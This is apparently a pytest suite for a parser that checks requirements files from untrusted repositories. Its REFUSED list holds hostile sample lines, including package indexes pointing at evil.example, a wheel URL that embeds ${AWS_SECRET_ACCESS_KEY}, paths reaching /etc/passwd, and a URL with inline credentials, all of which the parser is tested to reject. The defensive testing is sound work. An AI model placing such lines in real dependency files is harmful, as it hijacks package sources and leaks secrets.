"""live_code.envs.requirements: which requirements file a repository has, its lines checked as input
from a stranger (each refusal names ``file:line``), and the checked set as the installer reads it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from live_code.envs import requirements
from live_code.errors import ConfigError, RequirementError
from tests.helpers.envs import write_wheel

SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    path = tmp_path / "repo"
    path.mkdir()
    return path


def _parse(repo: Path, text: str, **kw: object) -> requirements.Requirements:
    (repo / "requirements.txt").write_text(text)
    return requirements.parse_requirements(repo / "requirements.txt", repo, **kw)  # type: ignore[arg-type]  # keyword arguments passed through as object


# -- which file, and its lines (moved here from tests/test_envs.py) ----------------------------------


def test_find_requirements_prefers_manifest_then_requirements_txt_then_legacy(repo: Path) -> None:
    assert requirements.find_requirements(repo) is None
    (repo / "extra-requirements.txt").write_text("tinydep\n")
    assert requirements.find_requirements(repo) == (repo / "extra-requirements.txt").resolve()
    (repo / "requirements.txt").write_text("tinydep\n")
    assert requirements.find_requirements(repo) == (repo / "requirements.txt").resolve()
    (repo / "deps").mkdir()
    (repo / "deps" / "run.txt").write_text("tinydep\n")
    assert requirements.find_requirements(repo, "deps/run.txt") == (repo / "deps" / "run.txt").resolve()


@pytest.mark.parametrize("entry", ["missing.txt", "../outside.txt", "/etc/hostname"])
def test_find_requirements_refuses_manifest_entry_missing_or_outside(repo: Path, entry: str) -> None:
    (repo.parent / "outside.txt").write_text("tinydep\n")
    with pytest.raises(ConfigError, match=r"live-code\.yaml"):
        requirements.find_requirements(repo, entry)


def test_find_requirements_refuses_symlink_out_of_repo(repo: Path) -> None:
    (repo.parent / "elsewhere.txt").write_text("tinydep\n")
    (repo / "requirements.txt").symlink_to(repo.parent / "elsewhere.txt")
    with pytest.raises(RequirementError, match="outside the repository"):
        requirements.find_requirements(repo)


REFUSED = [
    ("--index-url https://evil.example/simple", "would change where packages come from"),
    ("-i https://evil.example/simple", "would change where packages come from"),
    ("--extra-index-url https://evil.example/simple", "would change where packages come from"),
    ("--trusted-host evil.example", "would change where packages come from"),
    ("--find-links https://evil.example/links", "would change where packages come from"),
    ("-f ./wheels", "would change where packages come from"),
    ("--no-index", "would change where packages come from"),
    ("tinydep==${TINY_VERSION}", "environment variable"),
    ("https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl", "environment variable"),
    ("../outside/pkg-1.0-py3-none-any.whl", "outside the repository"),
    ("/etc/passwd", "outside the repository"),
    ("pkg @ file:///etc/hosts", "outside the repository"),
    ("-r ../other.txt", "outside the repository"),
    ("--requirement=/etc/other.txt", "outside the repository"),
    ("-r https://evil.example/r.txt", "inside the repository"),
    ("-e .", "editable"),
    ("-c constraints.txt", "constraint files"),
    ("--pre", "not allowed"),
    ("tinydep==1.0 --install-option=--prefix=/tmp", "not allowed"),
    ("tinydep==1.0 --hash=md5:0123", "sha256"),
    ("git+https://example.com/o/r@main#egg=r", "full commit SHA"),
    ("r @ git+https://example.com/o/r", "full commit SHA"),
    ("r @ git+https://example.com/o/r@0123456", "full commit SHA"),
    (f"r @ git+ssh://git@example.com/o/r@{SHA}", "git+ssh"),
    (f"r @ hg+https://example.com/o/r@{SHA}", "hg+https"),
    ("http://example.com/pkg-1.0-py3-none-any.whl", "http://"),
    ("pkg @ https://user:tok3n@example.com/pkg.whl", "credentials"),
    ("not a requirement !!", "not a valid requirement"),
]


@pytest.mark.parametrize(("line", "why"), REFUSED, ids=[r[0][:40] for r in REFUSED])
def test_parse_refuses_line_naming_file_and_line_number(repo: Path, line: str, why: str) -> None:
    (repo / "requirements.txt").write_text(f"# pinned deps\ntinydep==1.0\n\n{line}\ntinyapp==1.0\n")
    with pytest.raises(RequirementError, match=re.escape(why)) as info:
        requirements.parse_requirements(repo / "requirements.txt", repo)
    assert str(info.value).startswith("requirements.txt:4: ")
    assert "tok3n" not in info.value.render()


def test_parse_names_the_line_inside_an_included_file(repo: Path) -> None:
    (repo / "reqs").mkdir()
    (repo / "requirements.txt").write_text("tinydep==1.0\n-r reqs/extra.txt\n")
    (repo / "reqs" / "extra.txt").write_text("tinyapp==1.0\n--extra-index-url https://evil.example/simple\n")
    with pytest.raises(RequirementError, match=r"^reqs/extra.txt:2: "):
        requirements.parse_requirements(repo / "requirements.txt", repo)


def test_parse_follows_includes_and_refuses_cycles(repo: Path) -> None:
    (repo / "requirements.txt").write_text("tinydep==1.0\n-r more.txt\n")
    (repo / "more.txt").write_text("tinyapp==1.0  # the app\n")
    reqs = requirements.parse_requirements(repo / "requirements.txt", repo)
    assert [(r.origin, r.spec) for r in reqs.lines] == [
        ("requirements.txt:1", "tinydep==1.0"),
        ("more.txt:1", "tinyapp==1.0"),
    ]
    assert [rel for rel, _ in reqs.sources] == ["requirements.txt", "more.txt"]
    (repo / "more.txt").write_text("-r requirements.txt\n")
    with pytest.raises(RequirementError, match=r"more\.txt:1: .*cycle"):
        requirements.parse_requirements(repo / "requirements.txt", repo)


def test_parse_accepts_pinned_vcs_and_records_unpinned_lines(repo: Path) -> None:
    (repo / "requirements.txt").write_text(
        f"r @ git+https://example.com/o/r@{SHA}\n"
        "tinyapp>=1.0\n"
        "tinydep==1.0 ; python_version >= '3'\n"
        "six\n"
        "pkg @ https://example.com/pkg-1.0-py3-none-any.whl#sha256=" + "a" * 64 + "\n"
    )
    reqs = requirements.parse_requirements(repo / "requirements.txt", repo)
    assert [(r.kind, r.name, r.pinned) for r in reqs.lines] == [
        ("vcs", "r", True),
        ("name", "tinyapp", False),
        ("name", "tinydep", True),
        ("name", "six", False),
        ("url", "pkg", True),
    ]
    assert reqs.unpinned == ("requirements.txt:2: tinyapp>=1.0", "requirements.txt:4: six")


def test_strict_pins_refuses_an_unpinned_line_with_its_number(repo: Path) -> None:
    (repo / "requirements.txt").write_text("tinydep==1.0\ntinyapp>=1.0\n")
    assert requirements.parse_requirements(repo / "requirements.txt", repo).unpinned
    with pytest.raises(RequirementError, match=r"^requirements.txt:2: .*live_code_strict_pins"):
        requirements.parse_requirements(repo / "requirements.txt", repo, strict_pins=True)


def test_parse_joins_continuations_but_never_continues_a_comment(repo: Path) -> None:
    digest = "sha256:" + "b" * 64
    (repo / "requirements.txt").write_text(
        f"tinydep==1.0 \\\n    --hash={digest}\n"
        "# a comment ending in a backslash \\\n"
        "tinyapp==1.0\n"
        "six==1.16.0 # note \\\n"
        "--index-url https://evil.example/simple\n"
    )
    reqs = requirements.parse_requirements(repo / "requirements.txt", repo)
    assert [(r.origin, r.spec, r.hashes) for r in reqs.lines] == [
        ("requirements.txt:1", "tinydep==1.0", (digest,)),
        ("requirements.txt:4", "tinyapp==1.0", ()),
        ("requirements.txt:5", "six==1.16.0", ()),  # pip's rule: the comment swallows the next line
    ]


def test_local_path_inside_repo_is_accepted_and_its_bytes_are_in_the_digest(repo: Path) -> None:
    (repo / "vendor").mkdir()
    wheel = write_wheel(repo / "vendor", "tinydep", "1.0")
    (repo / "requirements.txt").write_text(f"./vendor/{wheel.name}\n")
    first = requirements.parse_requirements(repo / "requirements.txt", repo)
    assert first.lines[0].spec == str(wheel.resolve()) and first.lines[0].kind == "path"
    wheel.write_bytes(wheel.read_bytes() + b"\0")
    assert requirements.parse_requirements(repo / "requirements.txt", repo).digest() != first.digest()


# -- the legacy layout's choice, and why ------------------------------------------------------------


def test_the_legacy_layout_prefers_extra_requirements_and_says_why(repo: Path) -> None:
    (repo / "requirements.txt").write_text("six\n")
    assert requirements.find_requirements(repo, legacy=True) == (repo / "requirements.txt").resolve()
    reason = requirements.requirements_reason(repo, repo / "requirements.txt", None, legacy=True)
    assert reason == "requirements.txt: the legacy layout has no extra-requirements.txt"
    (repo / "extra-requirements.txt").write_text("tinydep\n")
    path = requirements.find_requirements(repo, legacy=True)
    assert path == (repo / "extra-requirements.txt").resolve()
    reason = requirements.requirements_reason(repo, path, None, legacy=True)
    assert reason.startswith("extra-requirements.txt: the legacy layout's requirements file")
    assert "requirements.txt beside it is not installed" in reason


def test_the_reason_names_the_manifest_the_default_or_nothing(repo: Path) -> None:
    assert requirements.requirements_reason(repo, None, None, legacy=False) == (
        "the repository has no requirements file: only the base's packages"
    )
    assert requirements.requirements_reason(repo, None, None, legacy=True).endswith("what the legacy layout implies")
    assert requirements.requirements_reason(repo, repo / "r.txt", "r.txt", legacy=False) == (
        "r.txt, named by live-code.yaml"
    )
    (repo / "requirements.txt").write_text("six\n")
    (repo / "extra-requirements.txt").write_text("six\n")
    assert requirements.requirements_reason(repo, repo / "requirements.txt", None, legacy=False) == (
        "requirements.txt: live-code.yaml names none, so the default "
        "(extra-requirements.txt beside it is not installed)"
    )


# -- what the installer gets ------------------------------------------------------------------------


def test_no_file_is_an_empty_set_with_its_reason(repo: Path) -> None:
    empty = requirements.parse_requirements(None, repo, reason="none here")
    assert (empty.file, empty.lines, empty.sources, empty.reason) == (None, (), (), "none here")
    assert empty.installer_text() == "" and empty.unpinned == ()


def test_installer_text_holds_only_the_checked_specs_with_their_hashes(repo: Path) -> None:
    digest = "sha256:" + "c" * 64
    reqs = _parse(repo, f"# deps\nTinyDep == 1.0 --hash={digest}  # pinned\n\nsix>=1\n")
    assert reqs.installer_text() == f"TinyDep == 1.0 --hash={digest}\nsix>=1\n"
    assert [(r.name, r.specifier, r.pinned) for r in reqs.lines] == [("tinydep", "==1.0", True), ("six", ">=1", False)]


def test_the_digest_follows_the_bytes_of_every_file_read(repo: Path) -> None:
    first = _parse(repo, "six==1.16.0\n").digest()
    assert _parse(repo, "six==1.16.0\n").digest() == first
    assert _parse(repo, "six==1.16.0 \n").digest() != first  # one byte more


def test_with_implied_adds_pinned_lines_and_changes_the_digest(repo: Path) -> None:
    reqs = _parse(repo, "six==1.16.0\n")
    assert requirements.with_implied(reqs, (), "legacy") is reqs
    implied = requirements.with_implied(reqs, (("ymir-exc==1.1.0", "the legacy SDK"),), "legacy layout")
    assert [(r.origin, r.name, r.pinned) for r in implied.lines] == [
        ("requirements.txt:1", "six", True),
        ("legacy layout", "ymir-exc", True),
    ]
    assert implied.sources[-1][0] == "<legacy layout>" and implied.digest() != reqs.digest()
    assert implied.installer_text() == "six==1.16.0\nymir-exc==1.1.0\n"


def test_with_mirrors_rewrites_what_the_installer_gets_and_keeps_what_the_file_says(repo: Path) -> None:
    reqs = _parse(repo, f"r @ git+https://github.com/o/r@{SHA}#egg=r\nother @ git+https://example.com/o/x@{SHA}\n")
    mirrors = {"https://github.com/o/r": "https://mirror.local/o/r"}
    mirrored = requirements.with_mirrors(reqs, mirrors.get)
    first, second = mirrored.lines
    assert first.spec == f"r @ git+https://mirror.local/o/r@{SHA}#egg=r"
    assert first.text == reqs.lines[0].text and first.mirror == ("https://github.com/o/r", "https://mirror.local/o/r")
    assert second == reqs.lines[1] and second.mirror is None
    assert mirrored.digest() == reqs.digest()
